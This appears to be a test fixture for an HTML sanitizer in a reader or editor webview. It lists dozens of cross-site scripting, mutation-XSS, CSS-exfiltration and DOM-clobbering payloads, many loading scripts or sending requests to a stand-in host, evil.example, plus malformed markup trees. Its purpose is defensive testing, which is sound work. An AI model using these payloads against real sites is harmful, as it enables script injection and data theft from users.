/**
 * Bodies that try to run scripts, to send requests, or to confuse the page, based on publicly known attacks.
 * A call of `pwned()` means that a script ran; a request to `evil.example` means that data was leaked.
 */
export const ATTACKS: Readonly<Record<string, string>> = {
	// Elements that run scripts
	script: '<p>a</p><script>pwned()</script>',
	'script from elsewhere': '<script src="https://evil.example/x.js"></script>',
	'script in capitals, cut and nested': '<ScRiPt >pwned()</sCrIpT\n><scr<script>ipt>pwned()</scr</script>ipt>',
	'script module': '<script type="module">import "https://evil.example/m.js"; pwned()</script>',
	'script in SVG': '<svg><script>pwned()</script><script href="https://evil.example/s.js"/></svg>',
	'script in MathML':
		'<math><script>pwned()</script><annotation-xml encoding="text/html"><script>pwned()</script></annotation-xml></math>',
	'script in a template': '<template><script>pwned()</script><img src=x onerror=pwned()></template>',
	'script in noscript':
		'<noscript><script>pwned()</script><img src="https://evil.example/n.gif" onerror=pwned()></noscript>',
	'import map and speculation rules':
		'<script type="importmap">{"imports":{"a":"https://evil.example/"}}</script><script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/pre"]}]}</script>',

	// Handlers
	'image error': '<img src=x onerror=pwned()>',
	'image error, no quotes, slashes': '<img/src/onerror=pwned()>',
	'image load': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="pwned()">',
	'SVG load': '<svg onload=pwned()><svg/onload="pwned()"></svg></svg>',
	'body load': '<body onload=pwned() onpageshow=pwned() onhashchange=pwned()>',
	'focus by itself':
		'<input autofocus onfocus=pwned()><select autofocus onfocus=pwned()></select><textarea autofocus onfocus=pwned()></textarea><a autofocus tabindex=0 onfocus=pwned() href="#x">x</a><p contenteditable autofocus onfocus=pwned()>x</p>',
	'details toggle': '<details open ontoggle=pwned()><summary>s</summary>x</details>',
	'animation end':
		'<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="pwned()" onanimationend="pwned()">b</b>',
	'transition end': '<b style="transition:color 1s" ontransitionend=pwned() tabindex=1>b</b>',
	'scroll and wheel': '<div onscroll=pwned() onwheel=pwned() style="overflow:auto;height:1px"><p>a<p>b</div>',
	'media events':
		'<video oncanplay=pwned() onerror=pwned()><source src="https://evil.example/v.mp4" onerror=pwned()></video><audio src="https://evil.example/a.mp3" onerror=pwned() autoplay></audio>',
	marquee: '<marquee onstart=pwned() onbounce=pwned()>m</marquee>',
	'handlers in capitals, with new lines and entities':
		'<img src=x ONERROR\n=\n"&#112;wned&lpar;&rpar;"><img src=x oNeRrOr=pwned&#40;&#41;>',
	'pointer handlers':
		'<p onpointerover=pwned() onmouseover=pwned() onclick=pwned() onfocus=pwned() oncontentvisibilityautostatechange=pwned() style="content-visibility:auto">p</p>',
	popover: '<button popovertarget=x onclick=pwned()>b</button><div popover id=x onbeforetoggle=pwned()>p</div>',
	'SVG animation':
		'<svg><animate onbegin=pwned() attributeName=x dur=1s><set onbegin=pwned() attributeName=href to="javascript:pwned()"/></svg>',

	// URLs that run scripts
	javascript: '<a href="javascript:pwned()">x</a>',
	'javascript in capitals': '<a href="JaVaScRiPt:pwned()">x</a>',
	'javascript with white space':
		'<a href="  \tjava\nscript\r:pwned()">x</a><a href="&#1;javascript:pwned()">x</a><a href="java&Tab;script:pwned()">x</a><a href="javascript&colon;pwned()">x</a><a href="&#x6A;avascript&#58;pwned()">x</a>',
	'javascript with other spaces':
		'<a href="\u00a0javascript:pwned()">x</a><a href="\u2028javascript:pwned()">x</a><a href="\ufeffjavascript:pwned()">x</a>',
	'javascript with NUL': '<a href="java\0script:pwned()">x</a>',
	'javascript with credentials': '<a href="javascript://news.example/%0apwned()">x</a>',
	vbscript: '<a href="vbscript:pwned()">x</a><a href="livescript:pwned()">x</a>',
	'data page':
		'<a href="data:text/html,<script>parent.pwned()</script>">x</a><iframe src="data:text/html,<script>parent.pwned()</script>"></iframe>',
	'blob and filesystem': '<a href="blob:https://evil.example/1">x</a><a href="filesystem:https://evil.example/1">x</a>',
	'commands of the editor':
		'<a href="command:workbench.action.terminal.new">x</a><a href="vscode://evil.ext/run">x</a><a href="vscode-resource:/etc/passwd">x</a><a href="file:///etc/passwd">x</a>',
	'view source': '<a href="view-source:javascript:pwned()">x</a><a href="about:blank">x</a>',
	'ping and download': '<a href="https://news.example/" ping="https://evil.example/ping" download target="_top">x</a>',
	xlink:
		'<svg><a xlink:href="javascript:pwned()"><text>x</text></a><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x"/></svg>',
	'MathML link':
		'<math href="javascript:pwned()"><mtext><a xlink:href="javascript:pwned()">x</a></mtext><maction actiontype="statusline" xlink:href="javascript:pwned()">y</maction></math>',
	'area and form action':
		'<map name=m><area href="javascript:pwned()" shape=default></map><form action="javascript:pwned()"><input type=submit formaction="javascript:pwned()"><button formaction="javascript:pwned()">b</button></form><isindex action="javascript:pwned()" type=image>',
	'old attributes':
		'<img lowsrc="https://evil.example/l" dynsrc="javascript:pwned()" src="javascript:pwned()"><table background="javascript:pwned()"><td background="https://evil.example/b">x</table><body background="https://evil.example/b">',

	// Frames, objects, documents
	'frame with document': '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
	'frame with script':
		'<iframe src="javascript:parent.pwned()"></iframe><frameset><frame src="javascript:pwned()"></frameset>',
	'frame from elsewhere':
		'<iframe src="https://evil.example/"></iframe><portal src="https://evil.example/"></portal><fencedframe></fencedframe>',
	'object and embed':
		'<object data="javascript:pwned()"></object><embed src="javascript:pwned()"><object data="https://evil.example/o"><param name=movie value="https://evil.example/p"></object><applet code="x"></applet>',
	base: '<base href="https://evil.example/"><a href="x">x</a><img src="y">',
	refresh:
		'<meta http-equiv="refresh" content="0;url=https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:pwned()">',
	'policy and cookie':
		'<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv="Set-Cookie" content="a=b"><meta name="referrer" content="unsafe-url">',
	link: '<link rel="stylesheet" href="https://evil.example/c.css"><link rel="prefetch" href="https://evil.example/p"><link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="https://evil.example"><link rel="import" href="https://evil.example/i"><link rel="manifest" href="https://evil.example/m">',
	form: '<form action="https://evil.example/f" id=f><input name=a value=b type=image src="https://evil.example/i"><button>Go</button></form><input form=f type=submit>',
	'head, html and processing instructions':
		'<html manifest="https://evil.example/m"><head><title>x</title></head><?xml-stylesheet href="https://evil.example/x.css"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',

	// Styles
	'style element':
		'<style>@import "https://evil.example/i.css"; body{background:url(https://evil.example/b)} input[value^=a]{background:url(https://evil.example/a)} @font-face{font-family:x;src:url(https://evil.example/f)} *{font-family:x!important;display:none}</style><p>a</p>',
	'style attribute':
		'<p style="background:url(https://evil.example/b);position:fixed;inset:0;z-index:99999">a</p><p style="width:expression(pwned());behavior:url(#x);-moz-binding:url(https://evil.example/x.xml#x)">b</p>',
	'style in SVG':
		'<svg><style>@import "https://evil.example/s.css";</style><rect style="fill:url(https://evil.example/f#x)" filter="url(https://evil.example/g#y)"/></svg>',
	'classes of the page':
		'<p class="find status icon-close">a</p><div class="block"><div class="notes"><div class="note" data-note="x">n</div></div></div><dialog open class="large">d</dialog><mark class="segment" data-notes="inline-0">m</mark>',

	// Markup that changes when it is parsed again
	'noscript attribute': '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
	'style in MathML':
		'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
	'mutation through MathML and a table':
		'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;"></table></mtext></math>',
	'mutation through MathML and malignmark':
		'<form><math><mtext></form><form><mglyph><malignmark><style></math><img src onerror=pwned()></style></malignmark></mglyph></form>',
	'mutation through MathML, SVG and a title':
		'<math><mi><svg><title><math><mi><style></title></svg><img src="https://evil.example/m" onerror=pwned()></style></mi></math>',
	'annotation in HTML':
		'<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src=x onerror=pwned()><iframe src="https://evil.example/"></iframe><script>pwned()</script></annotation-xml><annotation-xml encoding="application/xhtml+xml"><svg><style>*{background:url(https://evil.example/s)}</style></svg></annotation-xml><annotation src="https://evil.example/a" encoding="text/html">&lt;img src=x onerror=pwned()></annotation></semantics></math>',
	'MathML actions and addresses':
		'<math xlink:href="javascript:pwned()" href="javascript:pwned()" altimg="https://evil.example/alt" cdgroup="https://evil.example/cd"><maction actiontype="statusline" xlink:href="javascript:pwned()"><mi href="https://evil.example/">x</mi><mtext>s</mtext></maction><maction actiontype="statusline#https://evil.example/"><mi>y</mi></maction><mglyph src="https://evil.example/g" alt="g"/><mi definitionURL="https://evil.example/d" onclick="pwned()" onfocus="pwned()" tabindex="0" autofocus>z</mi></math>',
	'MathML styles':
		'<math style="position:fixed;inset:0" class="find" id="document"><mstyle background="https://evil.example/b" mathbackground="url(https://evil.example/m)" mathcolor="red" mathsize="900em" scriptlevel="-99"><mspace width="99999em" height="99999em"/><mpadded voffset="-999em" width="0"><mi>x</mi></mpadded><mo minsize="9999em" maxsize="infinity">(</mo></mstyle></math>',
	'MathML names':
		'<math id="post"><mi id="document" name="forms">x</mi></math><p><a href="#document">d</a><a href="#post">p</a></p>',
	'MathML in the wrong place':
		'<mi>x</mi><mfrac><script>pwned()</script><mtext><img src=x onerror=pwned()></mtext></mfrac><p><math><mrow><p>broken out<img src=x onerror=pwned()></math>',
	'TeX in a script':
		'<p>a<script type="math/tex">\\href{javascript:pwned()}{x}</script><script type="math/tex; mode=display"></p><img src=x onerror=pwned()></script></p>',
	'SVG drawings':
		'<svg width="500" height="500" onload="pwned()"><title>&lt;img src=x onerror=pwned()></title><desc><style>*{background:url(https://evil.example/d)}</style></desc><image href="https://evil.example/i" xlink:href="https://evil.example/j"/><use href="https://evil.example/u#x"/><feImage href="https://evil.example/f"/><a href="javascript:pwned()"><text>t</text></a><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject><animate attributeName="href" to="javascript:pwned()" onbegin="pwned()"/><style>@import "https://evil.example/s";</style></svg>',
	'forms and what is in them':
		'<form action="https://evil.example/" onsubmit="pwned()"><input type="image" src="https://evil.example/i" alt="&lt;img src=x onerror=pwned()>" onerror="pwned()"><input value="&quot;><script>pwned()</script>" autofocus onfocus="pwned()"><select onchange="pwned()"><option>&lt;script>pwned()&lt;/script></select><textarea></form><script>pwned()</script></textarea><button formaction="javascript:pwned()" popovertarget="x">b</button></form>',
	'what opens':
		'<p>a, and a few words more than that</p><details ontoggle="pwned()" open name="x"><summary onclick="pwned()">s</summary><img src=x onerror=pwned()></details>',
	'anchors that look like something else':
		'<p id="x&quot; onclick=&quot;pwned()">a</p><a href="#x&quot; onclick=&quot;pwned()">b</a><p id="&#xd800;">c</p><a href="#&#xd800;">d</a><a name="place-1" href="#place-1">e</a><a href="#]{}*">f</a><p id="]{}*">g</p>',
	'form in form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
	'SVG style comment': '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
	'title in SVG': '<svg><title><style></title></svg><img src=x onerror=pwned()>',
	'desc and foreignObject':
		'<svg><desc><img src=x onerror=pwned()></desc><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>pwned()</script></body></foreignObject></svg>',
	'select and template':
		'<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=pwned()>">',
	CDATA: '<svg><![CDATA[><img src=x onerror=pwned()>]]></svg><![CDATA[<script>pwned()</script>]]>',
	backquotes: '<img alt="``onerror=pwned()" src="x"><p title="`onmouseover=pwned()`">p</p>',
	'quotes in attributes':
		"<a href='\"><img src=x onerror=pwned()>' title='\"><script>pwned()</script>'>x</a><img alt='\"><script>pwned()</script>' src=\"y\">",
	'textarea and title':
		'<textarea></textarea><img src=x onerror=pwned()></textarea><title></title><svg onload=pwned()></title>',
	'plaintext and xmp':
		'<xmp><script>pwned()</script></xmp><listing><img src=x onerror=pwned()></listing><plaintext><script>pwned()</script>',
	'comment tricks':
		'<!--><img src=x onerror=pwned()>--><!--!><script>pwned()</script>--><!-- --!><img src=x onerror=pwned()><!-->',
	'notes with markup':
		'<p><mark>m</mark><!-- note: <img src=x onerror=pwned()> [a](javascript:pwned()) #<script>pwned()</script> @x"onclick=pwned() --></p>',
	'deep nesting': `${'<div><b>'.repeat(600)}<img src=x onerror=pwned()>${'</b></div>'.repeat(600)}`,
	'declarative shadow tree':
		'<div><template shadowrootmode="open"><script>pwned()</script><img src=x onerror=pwned()></template></div>',
	'custom elements': '<x-widget is="x" onload=pwned()></x-widget><p is="x-p" slot="s" part="p" exportparts="p">a</p>',

	// Names that clobber properties of the page
	'clobbered globals': [
		'document',
		'window',
		'post',
		'article',
		'acquireVsCodeApi',
		'getSelection',
		'CSS',
		'Highlight',
		'NodeFilter',
		'location',
		'parent',
		'top',
		'self',
		'name',
		'readerMessages',
		'commands',
		'current',
	]
		.map(
			name =>
				`<a id="${name}" name="${name}" href="https://evil.example/">x</a><form id="${name}" name="${name}"><input name="${name}"></form><img name="${name}" src=x>`,
		)
		.join(''),
	'clobbered properties': [
		'body',
		'head',
		'forms',
		'images',
		'getElementById',
		'querySelector',
		'querySelectorAll',
		'createElement',
		'createTextNode',
		'scrollingElement',
		'documentElement',
		'cookie',
		'activeElement',
		'addEventListener',
		'append',
	]
		.map(
			name =>
				`<img name="${name}" src=x><form name="${name}"><input name="${name}" id="${name}"></form><embed name="${name}"><object name="${name}" id="${name}"></object>`,
		)
		.join(''),
	'clobbered elements':
		'<form id=x><input name=attributes><input name=childNodes><input name=parentElement><input name=textContent><input name=tagName><input name=firstChild><input name=classList></form><a id=x name=y></a>',
	'prototype names':
		'<p id="__proto__">a</p><p id="constructor">b</p><a name="__proto__" href="#__proto__">c</a><a href="#constructor">d</a><a href="#toString">e</a><h2 id="hasOwnProperty">f</h2>',
};

/** Markup data that no server would send. The page must drop everything unknown. */
export const HOSTILE_MARKUP: readonly unknown[] = [
	['script', {}, ['pwned()']],
	['p', {}, [['script', { src: 'https://evil.example/x.js' }, []]]],
	['p', { onclick: 'pwned()', style: 'background:url(https://evil.example/)', id: 'document', class: 'x' }, ['p']],
	['a', { href: 'javascript:pwned()' }, ['a']],
	['p', {}, [['a', { href: ' javascript:pwned()' }, ['a']]]],
	[
		'p',
		{},
		[
			[
				'a',
				{ href: 'https://news.example/', target: '_top', ping: 'https://evil.example/', onclick: 'pwned()' },
				['a'],
			],
		],
	],
	['p', {}, [['img', { src: 'https://evil.example/i', onerror: 'pwned()', picture: '0' }, []]]],
	['p', {}, [['img', { picture: '__proto__' }, []]]],
	['p', {}, [['a', { embed: 'iframe', href: 'javascript:pwned()', title: '<img src=x onerror=pwned()>' }, []]]],
	['iframe', { src: 'https://evil.example/', srcdoc: '<script>parent.pwned()</script>' }, []],
	['svg', {}, [['script', {}, ['pwned()']]]],
	['style', {}, ['*{display:none}']],
	[
		'math',
		{ href: 'javascript:pwned()', 'xlink:href': 'javascript:pwned()', onclick: 'pwned()' },
		[['mi', { onclick: 'pwned()' }, ['x']]],
	],
	[
		'p',
		{},
		[
			[
				'math',
				{},
				[
					['annotation-xml', { encoding: 'text/html' }, [['script', {}, ['pwned()']]]],
					['mglyph', { src: 'https://evil.example/i' }, []],
				],
			],
		],
	],
	['p', {}, [['span', { control: '<img src=x onerror=pwned()>', says: '<img src=x onerror=pwned()>' }, []]]],
	['p', {}, [['span', { embed: '<img src=x onerror=pwned()>', title: '<script>pwned()</script>' }, []]]],
	['p', { anchor: '" onclick="pwned()' }, [['a', { href: '#" onclick="pwned()' }, ['x']]]],
	['base', { href: 'https://evil.example/' }, []],
	['p', {}, ['<img src=x onerror=pwned()>']],
	['p', null, ['a']],
	['p', {}, 'not a list'],
	['p', {}, [7, null, { nodeType: 1 }, ['p']]],
	'text alone',
	null,
];
